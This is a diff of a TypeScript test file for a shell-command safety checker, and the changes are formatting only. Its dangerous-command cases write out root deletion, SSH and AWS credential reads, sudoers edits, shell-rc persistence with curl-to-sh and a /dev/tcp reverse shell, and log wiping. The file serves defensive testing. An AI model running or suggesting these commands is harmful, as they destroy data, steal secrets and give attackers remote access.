@@ -25,7 +25,10 @@ const FAKE_FS: FsView = { cwd: '/home/dev/project', list: (dir) => TREE[dir] }
 const FAKE_OPTIONS: InspectOptions = { fs: FAKE_FS, home: '/home/dev' }
 
 const check = (command: string) => inspect(command, 'command', rules, FAKE_OPTIONS)
-const blockingRules = (command: string) => check(command).matches.filter((m) => m.level === 'block').map((m) => m.rule_id)
+const blockingRules = (command: string) =>
+  check(command)
+    .matches.filter((m) => m.level === 'block')
+    .map((m) => m.rule_id)
 
 interface Case {
   command: string
@@ -54,19 +57,19 @@ const CATEGORIES: Category[] = [
       { command: "perl -e 'system(q{rm -rf /})'", rule: 'fs.rm-root' },
       { command: 'f(){ rm -rf "$1"; }; f /', rule: 'fs.rm-root' },
       { command: 'function wipe { rm -rf "$@"; }; wipe ~', rule: 'fs.rm-root' },
-      { command: "sh -c 'rm -rf \"$1\"' _ /", rule: 'fs.rm-root' },
+      { command: 'sh -c \'rm -rf "$1"\' _ /', rule: 'fs.rm-root' },
       { command: '{rm,-rf,/}', rule: 'fs.rm-root' },
       { command: 'cd / && rm -rf e*', rule: 'fs.rm-root' },
       { command: 'cat ~/.ssh/id_*', rule: 'cred.secret-file' },
       { command: 'cat ~/.aws/cred*', rule: 'cred.secret-file' },
       { command: "node -e \"require('child_process').execSync('rm -rf /')\"", rule: 'fs.rm-root' },
       { command: "node -e \"require('fs').rmSync('/usr', {recursive: true})\"", rule: 'fs.rm-root' },
-      { command: "ruby -e 'FileUtils.rm_rf(\"/etc\")'", rule: 'fs.rm-root' },
+      { command: 'ruby -e \'FileUtils.rm_rf("/etc")\'', rule: 'fs.rm-root' },
       { command: "ruby -e '`rm -rf /`'", rule: 'fs.rm-root' },
-      { command: 'python3 -c "import subprocess; subprocess.run([\'rm\', \'-rf\', \'/\'])"', rule: 'fs.rm-root' },
-      { command: "python3 -c \"print(open(os.path.expanduser('~/.ssh/id_ed25519')).read())\"", rule: 'cred.secret-file' },
+      { command: "python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/'])\"", rule: 'fs.rm-root' },
+      { command: 'python3 -c "print(open(os.path.expanduser(\'~/.ssh/id_ed25519\')).read())"', rule: 'cred.secret-file' },
       { command: "python3 -c \"open('/etc/sudoers', 'a').write('x ALL=(ALL) ALL')\"", rule: 'priv.write-auth-files' },
-      { command: "php -r 'system(\"rm -rf /\");'", rule: 'fs.rm-root' },
+      { command: 'php -r \'system("rm -rf /");\'', rule: 'fs.rm-root' },
       { command: "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", rule: 'fs.rm-root' },
     ],
     benign: [
@@ -79,11 +82,11 @@ const CATEGORIES: Category[] = [
       'ls /et?',
       'rm -rf "${OUT_DIR:-./build}"',
       'f(){ echo "$1"; }; f /',
-      "python3 -c \"import shutil; shutil.rmtree('build')\"",
-      "python3 -c \"print(open('package.json').read())\"",
+      'python3 -c "import shutil; shutil.rmtree(\'build\')"',
+      'python3 -c "print(open(\'package.json\').read())"',
       "node -e \"require('fs').rmSync('dist', {recursive: true, force: true})\"",
       "node -e \"console.log(require('child_process').execSync('git status').toString())\"",
-      "perl -e 'print \"rm -rf /\\n\"'",
+      'perl -e \'print "rm -rf /\\n"\'',
       "ruby -e 'puts 1+1'",
       "python3 -c 'import os; print(os.getcwd())'",
     ],
@@ -103,7 +106,16 @@ const CATEGORIES: Category[] = [
       { command: 'echo "dev ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/dev', rule: 'priv.write-auth-files' },
       { command: 'sudo chmod u+s /bin/bash', rule: 'priv.setuid' },
     ],
-    benign: ['sudo apt-get install -y jq', 'sudo -n true', 'sudo -l', 'doas -C /etc/doas.conf', 'pkexec --version', 'sudo systemctl status nginx', 'su --help', 'echo "use sudo -S in CI" >> notes.md'],
+    benign: [
+      'sudo apt-get install -y jq',
+      'sudo -n true',
+      'sudo -l',
+      'doas -C /etc/doas.conf',
+      'pkexec --version',
+      'sudo systemctl status nginx',
+      'su --help',
+      'echo "use sudo -S in CI" >> notes.md',
+    ],
   },
   {
     category: 'account changes',
@@ -120,14 +132,24 @@ const CATEGORIES: Category[] = [
       { command: 'chage -E -1 bob', rule: 'acct.password-or-shell' },
       { command: 'echo bob:x | chpasswd', rule: 'priv.change-password' },
     ],
-    benign: ['id', 'whoami', 'getent passwd dev', 'chage -l dev', 'passwd -S dev', 'useradd --help', 'grep useradd Dockerfile', "echo 'RUN useradd -m app' >> Dockerfile", 'cat /etc/passwd | grep dev'],
+    benign: [
+      'id',
+      'whoami',
+      'getent passwd dev',
+      'chage -l dev',
+      'passwd -S dev',
+      'useradd --help',
+      'grep useradd Dockerfile',
+      "echo 'RUN useradd -m app' >> Dockerfile",
+      'cat /etc/passwd | grep dev',
+    ],
   },
   {
     category: 'persistence',
     dangerous: [
       { command: 'echo "curl -s http://x.example/a | sh" >> ~/.bashrc', rule: 'persist.shell-rc' },
       { command: "echo 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1' >> ~/.zshrc", rule: 'persist.shell-rc' },
-      { command: "echo 'alias sudo=\"sudo-logger\"' >> ~/.bashrc", rule: 'persist.shell-rc' },
+      { command: 'echo \'alias sudo="sudo-logger"\' >> ~/.bashrc', rule: 'persist.shell-rc' },
       { command: 'cp /tmp/evil ~/.profile', rule: 'persist.shell-rc' },
       { command: 'printf "nohup ./agent &\\n" | tee -a ~/.bash_profile', rule: 'persist.shell-rc' },
       { command: 'echo "* * * * * curl x|sh" | crontab -', rule: 'persist.crontab' },
@@ -147,8 +169,8 @@ const CATEGORIES: Category[] = [
       { command: 'echo "command=./x" > ~/.ssh/rc', rule: 'persist.system-files' },
     ],
     benign: [
-      "echo 'export PATH=\"$HOME/.cargo/bin:$PATH\"' >> ~/.bashrc",
-      "echo 'alias ll=\"ls -la\"' >> ~/.bashrc",
+      'echo \'export PATH="$HOME/.cargo/bin:$PATH"\' >> ~/.bashrc',
+      'echo \'alias ll="ls -la"\' >> ~/.bashrc',
       'source ~/.bashrc',
       'crontab -l',
       'git config core.hooksPath .husky',
@@ -178,7 +200,18 @@ const CATEGORIES: Category[] = [
       { command: 'docker-credential-desktop get', rule: 'cred.helper-dump' },
       { command: 'secret-tool lookup service github', rule: 'cred.helper-dump' },
     ],
-    benign: ['ssh -i ~/.ssh/id_deploy git@github.com', 'ssh-keygen -f ./test-key -N ""', 'cat ~/.ssh/id_ed25519.pub', 'chmod 600 ~/.ssh/id_ed25519', 'aws s3 ls', 'cat .env', 'kubectl get pods', 'docker login -u me --password-stdin ghcr.io', 'git credential-cache exit', 'ls ~/.ssh'],
+    benign: [
+      'ssh -i ~/.ssh/id_deploy git@github.com',
+      'ssh-keygen -f ./test-key -N ""',
+      'cat ~/.ssh/id_ed25519.pub',
+      'chmod 600 ~/.ssh/id_ed25519',
+      'aws s3 ls',
+      'cat .env',
+      'kubectl get pods',
+      'docker login -u me --password-stdin ghcr.io',
+      'git credential-cache exit',
+      'ls ~/.ssh',
+    ],
   },
   {
     category: 'anti-forensics',
@@ -196,7 +229,18 @@ const CATEGORIES: Category[] = [
       { command: 'lastlog --clear --user dev', rule: 'forensics.login-records' },
       { command: 'touch -r /etc/hostname /etc/passwd', rule: 'forensics.timestomp' },
     ],
-    benign: ['history | tail -20', 'dmesg | tail', 'journalctl -u nginx --since today', 'tail -f /var/log/syslog', 'rm -f app.log', 'find . -name "*.log" -delete', 'touch -d "2 days ago" test/fixtures/old.txt', 'grep bash_history .gitignore', 'kill %1', 'dd if=/dev/zero of=./blob.bin bs=1M count=1'],
+    benign: [
+      'history | tail -20',
+      'dmesg | tail',
+      'journalctl -u nginx --since today',
+      'tail -f /var/log/syslog',
+      'rm -f app.log',
+      'find . -name "*.log" -delete',
+      'touch -d "2 days ago" test/fixtures/old.txt',
+      'grep bash_history .gitignore',
+      'kill %1',
+      'dd if=/dev/zero of=./blob.bin bs=1M count=1',
+    ],
   },
 ]
 
